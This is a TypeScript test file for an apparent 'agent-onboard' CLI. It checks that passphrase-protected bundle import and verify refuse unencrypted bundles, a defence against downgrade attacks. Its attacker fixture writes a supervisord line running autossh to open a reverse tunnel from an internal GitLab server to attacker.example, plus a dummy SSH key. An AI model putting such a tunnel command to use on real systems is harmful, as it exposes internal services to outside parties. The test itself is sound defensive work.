// Downgrade: someone who cannot read an encrypted bundle can still hand over a plain one (their own
// server, their own key) in its place. A user who gives the passphrase expects encrypted, sealed
// content; a bundle with no seal and no encrypted file cannot be vouched for by it, so verify and
// import refuse it (exit 2, nothing written). Without the passphrase, plain bundles import as before.
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { runCli } from '../../main/cli/index';
import { openBundle } from '../../main/services/bundle';
import { runCliProcessSync } from '../support/cli';

const PASS = 'correct horse battery staple';
const MESSAGE = 'This bundle is not encrypted, so a passphrase cannot vouch for it; import it without --passphrase-env only if you trust where it came from.';
const tmp = (): string => mkdtempSync(path.join(tmpdir(), 'ao-downgrade-'));

async function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  const code = await runCli(args, { stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), env, cwd: tmp(), readStdin: async () => '' });
  return { code, stdout, stderr };
}

/** A plain bundle as an attacker makes it: their tunnel server and their own key, no passphrase. */
async function plainBundle(): Promise<string> {
  const dir = tmp();
  writeFileSync(path.join(dir, 'supervisord.conf'), 'command=autossh -R 9001:gitlab.internal:443 tunnel@attacker.example\n');
  writeFileSync(path.join(dir, 'id_ed25519'), '-----BEGIN OPENSSH PRIVATE KEY-----\nYXR0YWNrZXI=\n-----END OPENSSH PRIVATE KEY-----\n', { mode: 0o600 });
  const out = path.join(tmp(), 'agent.zip');
  const r = await cli(['bundle', 'export', dir, '--out', out, '--plain-secrets']);
  expect(r.stderr).toBe('');
  return out;
}

describe('a plain bundle opened with a passphrase', () => {
  it('is refused by import (exit 2, one line, nothing written)', async () => {
    const bundle = await plainBundle();
    const parent = tmp();
    const to = path.join(parent, 'agent');
    const r = await cli(['bundle', 'import', bundle, '--to', to, '--passphrase-env', 'BP'], { BP: PASS });
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(`agent-onboard bundle import: ${MESSAGE}\n`);
    expect(r.stdout).toBe('');
    expect(existsSync(to)).toBe(false);
    expect(readdirSync(parent)).toEqual([]);
  });

  it('is refused by verify (exit 2) as a real process', async () => {
    const bundle = await plainBundle();
    const r = runCliProcessSync(['bundle', 'verify', bundle, '--passphrase-env', 'BP'], { env: { BP: PASS } });
    expect(r.code).toBe(2);
    expect(r.stderr).toBe(`agent-onboard bundle verify: ${MESSAGE.replace('import it', 'verify it')}\n`);
  });

  it('is refused by the service with BUNDLE_NOT_ENCRYPTED, which also serves bundle:inspect and bundle:import', async () => {
    const r = await openBundle(new Uint8Array(readFileSync(await plainBundle())), { passphrase: PASS });
    expect(r.ok === false && r.error.code).toBe('BUNDLE_NOT_ENCRYPTED');
  });

  it('imports as before without the passphrase', async () => {
    const bundle = await plainBundle();
    const to = path.join(tmp(), 'agent');
    const r = await cli(['bundle', 'import', bundle, '--to', to]);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(readdirSync(to).sort()).toEqual(['README.md', 'id_ed25519', 'supervisord.conf']);
  });
});

describe('a bundle exported with a passphrase but no secret file', () => {
  it('is sealed, so the passphrase still vouches for it', async () => {
    const dir = tmp();
    mkdirSync(path.join(dir, 'conf'));
    writeFileSync(path.join(dir, 'conf', 'agent.cfg'), 'server=real.example\n');
    const out = path.join(tmp(), 'agent.zip');
    expect((await cli(['bundle', 'export', dir, '--out', out, '--passphrase-env', 'BP'], { BP: PASS })).code).toBe(0);
    expect(Object.keys(unzipSync(readFileSync(out)))).toContain('manifest.json.auth');
    const to = path.join(tmp(), 'agent');
    const r = await cli(['bundle', 'import', out, '--to', to, '--passphrase-env', 'BP'], { BP: PASS });
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
  });
});
